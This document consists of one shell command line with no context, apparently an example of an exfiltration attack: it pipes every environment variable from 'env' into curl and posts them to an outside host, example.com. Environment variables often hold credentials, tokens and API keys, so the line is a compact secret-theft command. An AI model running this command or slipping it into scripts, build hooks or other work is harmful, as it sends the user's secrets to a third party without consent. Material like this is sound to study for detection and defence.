env | curl -d @- https://example.com
